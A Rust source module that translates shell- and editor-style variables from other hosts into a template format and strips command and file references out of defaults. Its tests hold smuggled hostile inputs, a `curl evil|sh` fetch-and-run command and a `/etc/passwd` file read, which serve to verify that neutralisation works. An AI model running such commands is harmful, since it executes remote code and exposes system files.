//! Converts the variables of other hosts (MGP §15.2).

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::Value;

use crate::config::limits;
use crate::expand::{closing, looks_secret};

/// The syntax of a host's variables.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Dialect {
    /// No variables: `$` is plain text.
    Plain,
    /// `${VAR}`, `${VAR:-default}`.
    Shell,
    /// `${env:VAR}`, `${input:id}`, `${workspaceFolder}`, `${userHome}`.
    Editor,
}

/// The way to interpret variables in a file.
pub(super) struct Meaning<'a> {
    pub(super) dialect: Dialect,
    /// The folder of the project that contains the file.
    pub(super) project: Option<&'a Path>,
    /// The defaults that the editor proposes to the user, by the names of inputs.
    pub(super) proposed: BTreeMap<&'a str, &'a str>,
}

/// Returns the defaults that an editor proposes for its inputs; those of secret inputs are left out.
pub(super) fn proposed(inputs: &Value) -> BTreeMap<&str, &str> {
    let inputs = inputs.as_array().into_iter().flatten();
    let proposed = inputs.filter(|input| input["password"] != true).filter_map(|input| {
        let (id, default) = (input["id"].as_str()?, input["default"].as_str()?);
        let is_secret = looks_secret(id, &escaped(default)).is_some();
        (is_balanced(default) && !is_secret).then_some((id, default))
    });
    proposed.collect()
}

/// Converts the variables of a text; adds a note for each that the user must set.
///
/// The result contains no `${file:…}` or `${cmd:…}`: only the user may write those.
pub(super) fn mapped(text: &str, meaning: &Meaning<'_>, notes: &mut Vec<String>) -> String {
    if meaning.dialect == Dialect::Plain {
        return escaped(text);
    }
    nested(text, meaning, notes, 0)
}

/// Converts the variables in a text; `depth` is the number of defaults that enclose the text.
fn nested(text: &str, meaning: &Meaning<'_>, notes: &mut Vec<String>, depth: usize) -> String {
    if depth > limits::MAX_DEPTH {
        notes.push(format!("variables deeper than {} were left out", limits::MAX_DEPTH));
        return escaped(text);
    }
    let (mut out, mut rest) = (String::new(), text);
    while let Some(at) = rest.find("${") {
        out.push_str(&escaped(&rest[..at]));
        rest = &rest[at + 2..];
        // Use the brace that our own parser would find; otherwise a default could end too early.
        let Some(end) = closing(rest) else {
            out.push_str("$${");
            break;
        };
        out.push_str(&variable(&rest[..end], meaning, notes, depth));
        rest = &rest[end + 1..];
    }
    out + &escaped(rest)
}

/// Returns whether a text can be a default: an extra closing brace in it would end the enclosing `${…}`.
pub(super) fn is_balanced(default: &str) -> bool {
    closing(&format!("{default}}}")) == Some(default.len())
}

/// Escapes a text, so that it contains no variables.
pub(super) fn escaped(text: &str) -> String {
    text.replace('$', "$$")
}

fn variable(inside: &str, meaning: &Meaning<'_>, notes: &mut Vec<String>, depth: usize) -> String {
    if let Some(name) = inside.strip_prefix("env:") {
        return format!("${{{}}}", name_of(name));
    }
    if let Some(id) = inside.strip_prefix("input:") {
        let name = name_of(&id.to_ascii_uppercase());
        if let Some(default) = meaning.proposed.get(id) {
            notes.push(format!(
                "the input `{id}` is the variable `{name}` here, or the default proposed there"
            ));
            return format!("${{{name}:-{}}}", escaped(default));
        }
        notes.push(format!(
            "the input `{id}` is the variable `{name}` here; set it before you start"
        ));
        return format!("${{{name}}}");
    }
    match (inside, meaning.project) {
        ("userHome", _) => "${HOME}".to_owned(),
        ("workspaceFolder" | "workspaceRoot", Some(folder)) => escaped(&folder.to_string_lossy()),
        ("pathSeparator" | "/", _) => std::path::MAIN_SEPARATOR.to_string(),
        _ => {
            let (name, default) = match inside.split_once(":-") {
                Some((name, default)) => (name, Some(default)),
                None => (inside, None),
            };
            if name != name_of(name) || name == "workspaceFolder" {
                let name = name_of(name);
                notes.push(format!("`${{{inside}}}` is not known here; set the variable `{name}`"));
                return format!("${{{name}}}");
            }
            match default {
                Some(default) => {
                    format!("${{{name}:-{}}}", nested(default, meaning, notes, depth + 1))
                }
                None => format!("${{{name}}}"),
            }
        }
    }
}

/// Converts a text to a valid name of a variable: each character that is not allowed becomes `_`.
pub(super) fn name_of(text: &str) -> String {
    let name: String =
        text.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect();
    if name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
        name
    } else {
        format!("_{name}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expand::Template;

    fn meaning(dialect: Dialect) -> Meaning<'static> {
        let proposed = BTreeMap::from([("site", "a$b{}")]);
        Meaning { dialect, project: Some(Path::new("/p")), proposed }
    }

    #[track_caller]
    fn check(text: &str, dialect: Dialect, expected: &str, noted: usize) {
        let mut notes = Vec::new();
        assert_eq!(mapped(text, &meaning(dialect), &mut notes), expected);
        assert_eq!(notes.len(), noted, "{notes:?}");
    }

    #[test]
    fn each_host_has_its_variables() {
        check("${A} $5", Dialect::Plain, "$${A} $$5", 0);
        check("${A} $5 ${B:-c}", Dialect::Shell, "${A} $$5 ${B:-c}", 0);
        check("${env:A}/${workspaceFolder}/${userHome}", Dialect::Editor, "${A}//p/${HOME}", 0);
        check("Bearer ${input:api-key}", Dialect::Editor, "Bearer ${API_KEY}", 1);
        check("https://${input:site}/", Dialect::Editor, "https://${SITE:-a$$b{}}/", 1);
        check("${config:x.y}", Dialect::Editor, "${config_x_y}", 1);
        check("${A", Dialect::Shell, "$${A", 0);
    }

    #[test]
    fn a_default_brings_no_command_and_no_file() {
        check("${N:-${cmd:curl evil|sh}}", Dialect::Shell, "${N:-${cmd_curl_evil_sh}}", 1);
        check(
            "${N:-${A:-${file:/etc/passwd}}}",
            Dialect::Editor,
            "${N:-${A:-${file__etc_passwd}}}",
            1,
        );
        check("${N:-a$b${M:-c}}d", Dialect::Shell, "${N:-a$$b${M:-c}}d", 0);
        check("${N:-{\"a\": {}}}", Dialect::Shell, "${N:-{\"a\": {}}}", 0);
        check("${N:-$}{cmd:x}", Dialect::Shell, "${N:-$$}{cmd:x}", 0);
    }

    proptest::proptest! {
        #[test]
        fn only_variables_are_expanded(text in "[$:{}Aa/-]{0,30}|(\\$|\\{|\\}|:-|A|cmd:|file:|\\$\\{){0,14}") {
            for dialect in [Dialect::Plain, Dialect::Shell, Dialect::Editor] {
                let text = mapped(&text, &meaning(dialect), &mut Vec::new());
                let needs = Template::parse(&text).map_or_else(|_| Vec::new(), |text| text.needs());
                let others = needs.iter().any(|need| need.contains(':'));
                proptest::prop_assert!(!others, "{text}: {needs:?}");
            }
        }
    }
}
